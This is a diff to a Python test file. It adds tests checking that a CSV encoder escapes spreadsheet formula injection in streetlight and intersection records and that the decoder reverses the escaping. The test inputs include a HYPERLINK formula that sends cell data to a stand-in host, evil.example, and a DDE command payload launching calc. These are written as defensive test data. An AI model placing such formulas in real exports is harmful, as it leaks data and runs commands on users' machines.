@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Iterator
 from datetime import date
 
@@ -304,3 +306,79 @@ def test_pieces_add_up_to_the_whole_file() -> None:
     assert [r for p in pieces for r in p.records] == whole.records
     assert [e for p in pieces for e in p.errors] == whole.errors
     assert whole.errors[0].line == 11
+
+
+def cells_of(line: str) -> dict[str, str]:
+    [row] = csv.reader(io.StringIO(line, newline=""))
+    return dict(zip(COLUMNS, row, strict=True))
+
+
+FORMULA = 'HYPERLINK("http://evil.example/?leak="&A1,"Details")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_encode_escapes_each_formula_start(start: str) -> None:
+    record = make_streetlight(name=start + FORMULA)
+    [_, line] = encode_csv([record])
+    assert cells_of(line)["name"] == "'" + start + FORMULA
+    assert decode_csv(f"{HEADER}\r\n{line}".encode()).records == [(2, record)]
+
+
+def test_encode_escapes_every_text_column_and_no_number() -> None:
+    record = make_intersection(
+        code="=X-12",
+        lon=-70.6692655,
+        name="=cmd|' /C calc'!A0",
+        street="+SUM(1+1)",
+        cabinet="@SUM(1)",
+        group="-2+3",
+        controller_id="'=A1",
+        controller_vendor="''@x",
+        device="=mon",
+        device_firmware="-1-rc",
+    )
+    [_, line] = encode_csv([record])
+    cells = cells_of(line)
+    assert cells == {
+        **cells,
+        "code": "'=X-12",
+        "name": "'=cmd|' /C calc'!A0",
+        "street": "'+SUM(1+1)",
+        "cabinet": "'@SUM(1)",
+        "group": "'-2+3",
+        "controller_id": "''=A1",
+        "controller_vendor": "'''@x",
+        "device": "'=mon",
+        "device_firmware": "'-1-rc",
+        "lat": "-33.8688197",
+        "lon": "-70.6692655",
+        "phases": "2;4;6;8",
+    }
+    [(_, decoded)] = decode_csv(f"{HEADER}\r\n{line}".encode()).records
+    assert decoded == record
+    assert (decoded.lat, decoded.lon) == (-33.8688197, -70.6692655)
+
+
+def test_decode_removes_one_escaping_quote_and_no_other() -> None:
+    data = csv_bytes(
+        "kind,code,lat,lon,name,street,group,controller_id",
+        "intersection,'=X-1,-33.8,-70.6,'=SUM(1),''@x,'t Hooft,O'Brien",
+        "intersection,X-2,-33.8,-70.6,'\t=1+1,\"'\r=1+1\",',-3",
+    )
+    decoded = decode_csv(data)
+    assert decoded.ok, reasons(decoded)
+    first, second = (record for _, record in decoded.records)
+    assert (first.code, first.name, first.street, first.group, first.controller_id) == (
+        "=X-1",
+        "=SUM(1)",
+        "'@x",
+        "'t Hooft",
+        "O'Brien",
+    )
+    assert (second.name, second.street, second.group, second.controller_id) == (
+        "\t=1+1",
+        "\r=1+1",
+        "'",
+        "-3",
+    )
+    assert (first.lat, first.lon) == (-33.8, -70.6)
